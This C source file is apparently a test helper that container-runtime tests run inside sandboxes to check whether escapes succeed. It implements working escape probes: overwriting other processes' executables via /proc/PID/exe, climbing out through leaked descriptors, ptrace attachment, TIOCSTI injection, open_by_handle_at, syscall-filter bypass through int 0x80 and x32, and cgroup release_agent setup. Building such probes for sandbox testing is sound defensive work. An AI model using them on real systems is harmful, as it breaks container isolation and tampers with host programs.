// What busybox cannot do for an attacker. Built statically by the tests, run inside containers (and, for "exchange", beside them).
// usage: attack COMMAND ARG...; every loop has a limit of time in milliseconds. One line of findings on standard output.
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/fs.h>
#include <sched.h>
#include <signal.h>
#include <stddef.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/inotify.h>
#include <sys/ioctl.h>
#include <sys/mount.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/un.h>
#include <time.h>
#include <unistd.h>

static long now(void)
{
	struct timespec t;
	clock_gettime(CLOCK_MONOTONIC, &t);
	return t.tv_sec * 1000 + t.tv_nsec / 1000000;
}

static int result(long value)
{
	printf("%s\n", value >= 0 ? "done" : strerrorname_np(errno));
	return 0;
}

// exchange A B MS: two names change places for as long as it lasts.
static int exchange(char **a)
{
	long end = now() + atol(a[2]), count = 0;
	while (now() < end)
		for (int i = 0; i < 100; i++)
			count += renameat2(AT_FDCWD, a[0], AT_FDCWD, a[1], RENAME_EXCHANGE) == 0;
	printf("exchanged %s\n", count > 0 ? "many" : "none");
	return 0;
}

// Write to what a descriptor leads to: the program of another process, which is killed first so that its file is not busy.
static int overwrite(int fd, int pid)
{
	char path[64];
	int flags = 0, tries;
	kill(pid, SIGKILL);
	snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
	for (tries = 0; tries < 200; tries++) {
		int readable = open(path, O_RDONLY | O_CLOEXEC);
		if (readable >= 0 && ioctl(readable, FS_IOC_GETFLAGS, &flags) == 0 && (flags & FS_IMMUTABLE_FL)) {
			flags &= ~FS_IMMUTABLE_FL;
			ioctl(readable, FS_IOC_SETFLAGS, &flags);
		}
		close(readable);
		int file = open(path, O_WRONLY | O_CLOEXEC);
		if (file >= 0) {
			int wrote = write(file, "#!owned", 7);
			close(file);
			if (wrote > 0)
				return 1;
			return 0;
		}
		if (errno != ETXTBSY)
			return 0;
		usleep(1000);
	}
	return 0;
}

// exe MS: catches the program file of every other process that is not one of the container's own in /bin, and writes to it.
static int exe(char **a)
{
	long end = now() + atol(a[0]);
	int seen = 0, denied = 0, written = 0;
	while (now() < end && seen == 0) {
		DIR *proc = opendir("/proc");
		struct dirent *entry;
		while (proc && (entry = readdir(proc))) {
			char path[320], link[512] = "";
			int pid = atoi(entry->d_name);
			if (pid <= 0 || pid == getpid())
				continue;
			snprintf(path, sizeof(path), "/proc/%d/exe", pid);
			int fd = open(path, O_PATH | O_CLOEXEC);
			if (fd < 0) {
				denied += errno == EACCES || errno == EPERM;
				continue;
			}
			snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
			if (readlink(path, link, sizeof(link) - 1) > 0 && strncmp(link, "/bin/", 5) != 0) {
				seen++;
				written += overwrite(fd, pid);
			}
			close(fd);
		}
		closedir(proc);
	}
	printf("seen %s denied %s written %d\n", seen ? "yes" : "no", denied ? "yes" : "no", written);
	return 0;
}

// fds MS: opens what every other process has open, and counts what leads to the host's file MARK (an absolute path from some ancestor).
static int fds(char **a)
{
	long end = now() + atol(a[0]);
	int opened = 0, escaped = 0, denied = 0;
	while (now() < end && escaped == 0) {
		DIR *proc = opendir("/proc");
		struct dirent *entry;
		while (proc && (entry = readdir(proc))) {
			int pid = atoi(entry->d_name);
			if (pid <= 0 || pid == getpid())
				continue;
			for (int n = -2; n < 40; n++) {
				char path[320], climb[1024] = "";
				if (n < 0)
					snprintf(path, sizeof(path), "/proc/%d/%s", pid, n == -1 ? "cwd" : "root");
				else
					snprintf(path, sizeof(path), "/proc/%d/fd/%d", pid, n);
				int fd = open(path, O_PATH | O_DIRECTORY | O_CLOEXEC);
				if (fd < 0) {
					denied += errno == EACCES || errno == EPERM;
					continue;
				}
				opened++;
				for (int up = 0; up < 24; up++)
					strcat(climb, "../");
				strcat(climb, a[1] + 1);
				escaped += faccessat(fd, climb, F_OK, 0) == 0;
				close(fd);
			}
		}
		closedir(proc);
	}
	printf("opened %s denied %s escaped %d\n", opened ? "yes" : "no", denied ? "yes" : "no", escaped);
	return 0;
}

// trace MS: attaches to every other process; one that has become a program of the container, in /bin, does not count.
static int trace(char **a)
{
	long end = now() + atol(a[0]);
	int attached = 0, denied = 0;
	while (now() < end && attached == 0) {
		DIR *proc = opendir("/proc");
		struct dirent *entry;
		while (proc && (entry = readdir(proc))) {
			int pid = atoi(entry->d_name);
			if (pid <= 1 || pid == getpid())
				continue;
			char path[64], link[512] = "";
			snprintf(path, sizeof(path), "/proc/%d/exe", pid);
			if (ptrace(PTRACE_SEIZE, pid, 0, 0) == 0)
				attached += readlink(path, link, sizeof(link) - 1) > 0 && strncmp(link, "/bin/", 5) != 0;
			else
				denied += errno == EPERM;
		}
		closedir(proc);
	}
	printf("attached %d denied %s\n", attached, denied ? "yes" : "no");
	return 0;
}

// sti TEXT: types into the terminal on standard input.
static int sti(char **a)
{
	for (char *c = a[0]; *c; c++)
		if (ioctl(0, TIOCSTI, c) < 0)
			return result(-1);
	return result(0);
}

// handle PATH: the file of that inode's file system whose inode number is 2, the file system's own root.
static int handle(char **a)
{
	struct { struct file_handle head; unsigned inode, generation; } root = { .head = { .handle_bytes = 8, .handle_type = 1 }, .inode = 2 };
	int mount = open(a[0], O_RDONLY | O_DIRECTORY);
	return result(open_by_handle_at(mount, &root.head, O_PATH));
}

// socket NAME: connects to an abstract socket.
static int abstract(char **a)
{
	struct sockaddr_un address = { .sun_family = AF_UNIX };
	int fd = socket(AF_UNIX, SOCK_STREAM, 0);
	strncpy(address.sun_path + 1, a[0], sizeof(address.sun_path) - 2);
	return result(connect(fd, (struct sockaddr *)&address, offsetof(struct sockaddr_un, sun_path) + 1 + strlen(a[0])));
}

// mkdir WAY PATH: by another door: 32-bit (int 0x80) or x32.
static int door(char **a)
{
	long value = -ENOSYS;
#ifdef __x86_64__
	if (strcmp(a[0], "32") == 0) {
		char *low = (char *)(long)syscall(SYS_mmap, 0x10000, 4096, 3, 0x32, -1, 0);
		strcpy(low, a[1]);
		__asm__ volatile("int $0x80" : "=a"(value) : "a"(39), "b"(low), "c"(0755) : "memory", "r8", "r9", "r10", "r11");
		value = (int)value;
	} else {
		value = syscall(0x40000000 | SYS_mkdir, a[1], 0755);
		value = value < 0 ? -errno : value;
	}
#endif
	errno = (int)-value;
	return result(value);
}

// release DIR: root of a user namespace of its own mounts a cgroup hierarchy of version 1 and sets the program that the kernel runs outside.
static int release(char **a)
{
	int fd;
	if (unshare(CLONE_NEWUSER | CLONE_NEWNS | CLONE_NEWCGROUP) < 0)
		return result(-1);
	fd = open("/proc/self/setgroups", O_WRONLY); if (fd >= 0) { (void)!write(fd, "deny", 4); close(fd); }
	fd = open("/proc/self/uid_map", O_WRONLY); if (fd >= 0) { (void)!write(fd, "0 0 1", 5); close(fd); }
	if (mount("cgroup", a[0], "cgroup", 0, "memory") < 0 || chdir(a[0]) < 0)
		return result(-1);
	fd = open("release_agent", O_WRONLY);
	return result(fd < 0 ? -1 : write(fd, "/tmp/agent", 10));
}

// watch PATH MS: whether anybody opens it.
static int watch(char **a)
{
	char events[4096];
	int fd = inotify_init1(IN_NONBLOCK), opens = 0;
	long end = now() + atol(a[1]);
	if (inotify_add_watch(fd, a[0], IN_OPEN) < 0)
		return result(-1);
	printf("watching\n");
	fflush(stdout);
	while (now() < end && opens == 0) {
		opens += read(fd, events, sizeof(events)) > 0;
		usleep(1000);
	}
	printf("opened %d\n", opens);
	return 0;
}

// keyring NAME MS: lies in wait under a session keyring's name, and looks whether somebody has put a key into it.
static int keyring(char **a)
{
	long end = now() + atol(a[1]);
	long ring = syscall(SYS_keyctl, 1, a[0]), found = -1;
	if (ring < 0)
		return result(-1);
	syscall(SYS_keyctl, 5, ring, 0x3f3f3f3f);
	printf("waiting\n");
	fflush(stdout);
	while (now() < end && (found = syscall(SYS_keyctl, 10, ring, "user", "secret", 0)) < 0)
		usleep(1000);
	printf("found %d\n", found >= 0);
	return 0;
}

// addkey: a key in the session keyring.
static int addkey(char **a)
{
	(void)a;
	return result(syscall(SYS_add_key, "user", "secret", "text", 4, -3));
}

// uid: who it is.
static int uid(char **a)
{
	(void)a;
	printf("%d\n", (int)geteuid());
	return 0;
}

int main(int count, char **words)
{
	static const struct { const char *name; int (*run)(char **); int words; } commands[] = {
		{ "exchange", exchange, 3 }, { "exe", exe, 1 }, { "fds", fds, 2 }, { "trace", trace, 1 }, { "sti", sti, 1 }, { "handle", handle, 1 },
		{ "socket", abstract, 1 }, { "mkdir", door, 2 }, { "release", release, 1 }, { "watch", watch, 2 }, { "keyring", keyring, 2 }, { "addkey", addkey, 0 }, { "uid", uid, 0 },
	};
	for (unsigned i = 0; count > 1 && i < sizeof(commands) / sizeof(commands[0]); i++)
		if (strcmp(words[1], commands[i].name) == 0 && count - 2 == commands[i].words)
			return commands[i].run(words + 2);
	fprintf(stderr, "attack: no such command\n");
	return 2;
}
